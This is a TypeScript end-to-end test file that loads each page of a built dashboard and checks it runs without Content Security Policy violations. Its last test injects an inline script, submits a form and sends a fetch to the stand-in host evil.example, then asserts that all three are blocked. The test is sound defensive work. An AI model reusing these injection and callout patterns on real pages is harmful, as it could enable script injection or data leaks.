/** The built page under the policy that the real bridge gives it: every address of it, and nothing that the policy forbids. */
import { existsSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { type RealGateway, startRealGateway } from '../support/real-gateway.ts';
import { launch, open } from './browser.ts';

const dashboard = fileURLToPath(new URL('../../dist/dashboard', import.meta.url));
const pages = [
  '/',
  '/sticks',
  '/view',
  '/messages',
  '/setup',
  '/data',
  '/health',
  '/parameters',
  '/people',
  '/plan',
  '/reliability-test',
  '/pair',
];

let browser: Browser;
let bridge: RealGateway;

beforeAll(async () => {
  if (!existsSync(`${dashboard}/index.html`)) throw new Error('dist/dashboard is not built: run npm run build first');
  browser = await launch();
});
afterAll(() => browser.close());
afterEach(async () => {
  await Promise.all(browser.contexts().map((context) => context.close()));
  await bridge.stop();
});

async function visit(path: string) {
  bridge = await startRealGateway(dashboard);
  const { page } = await open(browser, 'desk');
  const forbidden: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Permissions-Policy|Refused to|Trusted/i.test(message.text()))
      forbidden.push(message.text());
  });
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile }) =>
      console.error(`Content Security Policy: ${violatedDirective} ${blockedURI} ${sourceFile}`),
    );
  });
  await page.goto(bridge.url.replace('ws:', 'http:').replace('/ws', path));
  return { page, forbidden };
}

test.each(pages)('%s runs and does nothing that its policy forbids', async (path) => {
  const { page, forbidden } = await visit(path);
  await page.locator('#app > *').first().waitFor();
  if (path !== '/pair') await page.locator('.badge.b-connected').first().waitFor();
  expect(forbidden).toEqual([]);
});

test('what is not allowed is not done, and is seen here', async () => {
  const { page, forbidden } = await visit('/');
  await page.locator('#app > *').first().waitFor();
  const isDone = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'globalThis.isOwned = true';
    document.body.append(script);
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.submit();
    const reached = await fetch('https://evil.example/').then(
      () => true,
      () => false,
    );
    return reached || 'isOwned' in globalThis;
  });
  expect(isDone).toBe(false);
  await expect.poll(() => forbidden.map((text) => text.slice(0, 45)).join(' ')).toMatch(/inline/i);
  expect(forbidden.length).toBeGreaterThanOrEqual(3);
});
